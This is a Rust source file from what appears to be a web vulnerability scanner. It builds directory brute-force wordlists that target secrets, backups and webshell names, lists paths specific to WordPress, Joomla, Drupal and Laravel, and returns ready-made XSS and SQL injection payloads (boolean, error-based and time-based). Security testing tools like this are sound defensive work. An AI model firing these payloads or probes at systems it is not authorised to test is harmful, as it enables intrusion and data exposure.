// File: wordlist.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2025
// - Volker Schwaberow <volker@schwaberow.de>

use crate::errors::ScanResult;
use std::collections::HashSet;
use std::fs::File;
use std::io::{BufRead, BufReader};
use std::path::Path;

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum ScanMode {
    Quick,
    Normal,
    Deep,
}

impl ScanMode {
    pub fn wordlist(&self) -> Vec<String> {
        match self {
            ScanMode::Quick => quick_wordlist(),
            ScanMode::Normal => common_wordlist(),
            ScanMode::Deep => big_wordlist(),
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Technology {
    Wordpress,
    Joomla,
    Drupal,
    Laravel,
}

const CORE_DIRECTORIES: &[&str] = &[
    "admin", "login", "dashboard", "api", "test", "backup", "config", "database", "db", "sql",
    "phpmyadmin", "wp-admin", "wp-login.php", "administrator", "cgi-bin", "cpanel", "webadmin",
    ".git", ".svn", ".env", ".htaccess", ".htpasswd", "robots.txt", "sitemap.xml",
    "crossdomain.xml", "server-status", "server-info", "console", "actuator", "health",
    "metrics", "debug", "trace", "monitoring", "swagger", "swagger-ui", "api-docs", "docs",
    "documentation", "backup.zip", "backup.tar", "dump.sql", "database.sql", "wp-config.php",
    "config.php", "configuration.php", "settings.php", "config.json", "config.yml",
    "config.yaml", ".env.local", ".env.production", ".env.development", "uploads", "files",
    "images", "assets", "static", "media", "downloads", "tmp", "temp", "cache", "logs",
    "error_log", "access_log", "shell.php", "cmd.php", "backdoor.php", "webshell.php",
];

const PREFIXES: &[&str] = &["", "admin", "user", "api", "web", "mobile", "secure", "test"];
const SUFFIXES: &[&str] = &["", ".php", ".html", ".js", ".json", ".xml", ".txt", ".bak", ".old"];

/// Insertion-ordered set with an upper bound on its size.
struct BoundedList {
    seen: HashSet<String>,
    items: Vec<String>,
    limit: usize,
}

impl BoundedList {
    fn new(limit: usize) -> Self {
        Self {
            seen: HashSet::new(),
            items: Vec::new(),
            limit,
        }
    }

    fn from_vec(items: Vec<String>, limit: usize) -> Self {
        let mut list = Self::new(limit);
        for item in items {
            list.push(item);
        }
        list
    }

    fn push(&mut self, item: String) {
        if self.items.len() < self.limit && self.seen.insert(item.clone()) {
            self.items.push(item);
        }
    }

    fn full(&self) -> bool {
        self.items.len() >= self.limit
    }

    fn into_vec(self) -> Vec<String> {
        self.items
    }
}

pub fn quick_wordlist() -> Vec<String> {
    let mut list = BoundedList::new(1_000);
    for dir in CORE_DIRECTORIES {
        list.push(dir.to_string());
    }
    for dir in CORE_DIRECTORIES {
        for prefix in PREFIXES {
            for suffix in SUFFIXES {
                if !prefix.is_empty() {
                    list.push(format!("{}-{}{}", prefix, dir, suffix));
                    list.push(format!("{}/{}{}", prefix, dir, suffix));
                }
                list.push(format!("{}{}", dir, suffix));
            }
        }
        if list.full() {
            break;
        }
    }
    list.into_vec()
}

pub fn common_wordlist() -> Vec<String> {
    let mut list = BoundedList::from_vec(quick_wordlist(), 10_000);
    for year in 2020..2026 {
        for month in 1..=12 {
            list.push(format!("backup-{}-{:02}", year, month));
            list.push(format!("log-{}-{:02}", year, month));
        }
    }
    for i in 0..1_000 {
        for stem in ["file", "data", "backup", "admin", "user"] {
            list.push(format!("{}{}", stem, i));
        }
        if list.full() {
            break;
        }
    }
    list.into_vec()
}

pub fn big_wordlist() -> Vec<String> {
    let mut list = BoundedList::from_vec(common_wordlist(), 50_000);
    let words = ["admin", "user", "api", "web", "app", "mobile", "test"];
    let actions = ["login", "logout", "register", "profile", "settings"];
    let formats = ["", ".php", ".html", ".aspx", ".jsp", ".do"];
    for word in words {
        for action in actions {
            for format in formats {
                list.push(format!("{}_{}{}", word, action, format));
                list.push(format!("{}/{}{}", word, action, format));
                list.push(format!("{}-{}{}", word, action, format));
            }
        }
    }
    for i in 0..20_000 {
        for stem in ["page", "item", "product", "service"] {
            list.push(format!("{}{}", stem, i));
        }
        if list.full() {
            break;
        }
    }
    list.into_vec()
}

pub fn technology_wordlist(technology: Technology) -> Vec<String> {
    let paths: &[&str] = match technology {
        Technology::Wordpress => &[
            "wp-admin", "wp-login.php", "wp-content", "wp-includes", "xmlrpc.php",
            "wp-config.php", "wp-config.php.bak", "wp-config.php.old", "wp-config.php.save",
            "wp-content/uploads", "wp-content/plugins", "wp-content/themes", "wp-json",
            "wp-json/wp/v2", "readme.html", "license.txt", "wp-activate.php",
            "wp-blog-header.php", "wp-comments-post.php", "wp-cron.php", "wp-links-opml.php",
            "wp-load.php", "wp-mail.php", "wp-settings.php", "wp-signup.php",
            "wp-trackback.php", "index.php",
        ],
        Technology::Joomla => &[
            "administrator", "administrator/index.php", "configuration.php",
            "configuration.php.bak", "components", "modules", "plugins", "templates", "cache",
            "logs", "tmp", "language", "libraries", "media", "htaccess.txt",
            "administrator/manifests/files/joomla.xml", "README.txt",
        ],
        Technology::Drupal => &[
            "user/login", "user/register", "admin", "node", "sites/default",
            "sites/default/settings.php", "sites/default/files", "core/CHANGELOG.txt",
            "CHANGELOG.txt", "core/install.php", "update.php", "cron.php", "modules",
            "themes", "profiles",
        ],
        Technology::Laravel => &[
            ".env", ".env.backup", "storage/logs/laravel.log", "artisan", "public/index.php",
            "vendor", "telescope", "horizon", "_ignition/health-check",
            "_ignition/execute-solution", "api/user", "sanctum/csrf-cookie",
        ],
    };
    paths.iter().map(|p| p.to_string()).collect()
}

pub fn xss_payloads() -> Vec<String> {
    [
        "<script>alert(1)</script>",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'><img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "\"><body onload=alert(1)>",
        "\"><svg onload=alert(1)>",
        "'><svg onload=alert(1)>",
        "\"><iframe src=javascript:alert(1)>",
        "\"><input onfocus=alert(1) autofocus>",
        "\"><details open ontoggle=alert(1)>",
        "\"><video><source onerror=alert(1)>",
        "\"><audio><source onerror=alert(1)>",
        "\"><form><button formaction=javascript:alert(1)>",
        "\"><marquee onstart=alert(1)>XSS</marquee>",
        "\" onmouseover=alert(1) x=\"",
        "' onmouseover=alert(1) x='",
        "<svg/onload=alert(1)>",
        "</script><script>alert(1)</script>",
        "';alert(1);//",
        "\";alert(1);//",
    ]
    .iter()
    .map(|p| p.to_string())
    .collect()
}

/// A boolean-based pair: the true condition and its false counterpart.
pub fn sqli_boolean_pairs() -> Vec<(String, String)> {
    [
        ("' AND '1'='1' -- ", "' AND '1'='2' -- "),
        ("\" AND \"1\"=\"1\" -- ", "\" AND \"1\"=\"2\" -- "),
        (" AND 1=1", " AND 1=2"),
        ("' OR '1'='1' #", "' AND '1'='2' #"),
    ]
    .iter()
    .map(|(t, f)| (t.to_string(), f.to_string()))
    .collect()
}

pub fn sqli_error_payloads() -> Vec<String> {
    [
        "'",
        "\"",
        "' --",
        "\" --",
        "' #",
        "'/*",
        "' OR '1'='1",
        "' OR 1=1 --",
        "\" OR 1=1 --",
        "' AND 1=CAST(version() AS INT)--",
        "' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version),0x7e))--",
        "' AND UPDATEXML(1,CONCAT(0x7e,(SELECT @@version),0x7e),1)--",
        "1'1",
        "1 AND 1=CONVERT(int,@@version)--",
    ]
    .iter()
    .map(|p| p.to_string())
    .collect()
}

pub fn sqli_time_payloads(delay_secs: u64) -> Vec<String> {
    vec![
        format!("' AND SLEEP({})-- ", delay_secs),
        format!("1 AND (SELECT 1 FROM (SELECT SLEEP({}))a)", delay_secs),
        format!("'; WAITFOR DELAY '0:0:{}'--", delay_secs),
        format!("' AND 1=(SELECT 1 FROM PG_SLEEP({}))--", delay_secs),
        format!("1; SELECT pg_sleep({})--", delay_secs),
    ]
}

/// One entry per non-empty line; `#` starts a comment line.
pub fn load_file(path: &Path) -> ScanResult<Vec<String>> {
    let file = File::open(path)?;
    let reader = BufReader::new(file);
    let mut words = Vec::new();
    for line in reader.lines() {
        let line = line?;
        let trimmed = line.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            continue;
        }
        words.push(trimmed.to_string());
    }
    Ok(words)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;
    use std::io::Write;
    use tempfile::NamedTempFile;

    #[test]
    fn test_mode_sizes_are_bounded_and_unique() {
        for (mode, limit) in [
            (ScanMode::Quick, 1_000),
            (ScanMode::Normal, 10_000),
            (ScanMode::Deep, 50_000),
        ] {
            let list = mode.wordlist();
            assert!(list.len() <= limit);
            let unique: HashSet<&String> = list.iter().collect();
            assert_eq!(unique.len(), list.len());
        }
    }

    #[test]
    fn test_modes_grow() {
        let quick = ScanMode::Quick.wordlist();
        let normal = ScanMode::Normal.wordlist();
        assert!(normal.len() > quick.len());
        assert!(quick.iter().any(|w| w == "admin"));
        assert!(quick.iter().any(|w| w == ".env"));
    }

    #[test]
    fn test_boolean_pairs_do_not_collide_with_error_payloads() {
        let errors: HashSet<String> = sqli_error_payloads().into_iter().collect();
        for (truthy, falsy) in sqli_boolean_pairs() {
            assert!(!errors.contains(&truthy), "{:?} is also an error payload", truthy);
            assert_ne!(truthy, falsy);
        }
    }

    #[test]
    fn test_time_payloads_carry_delay() {
        for payload in sqli_time_payloads(7) {
            assert!(payload.contains('7'));
        }
    }

    #[test]
    fn test_load_file_skips_comments_and_blanks() {
        let mut file = NamedTempFile::new().unwrap();
        writeln!(file, "# comment").unwrap();
        writeln!(file, "admin").unwrap();
        writeln!(file).unwrap();
        writeln!(file, "  backup.zip  ").unwrap();

        let words = load_file(file.path()).unwrap();
        assert_eq!(words, vec!["admin".to_string(), "backup.zip".to_string()]);
    }
}
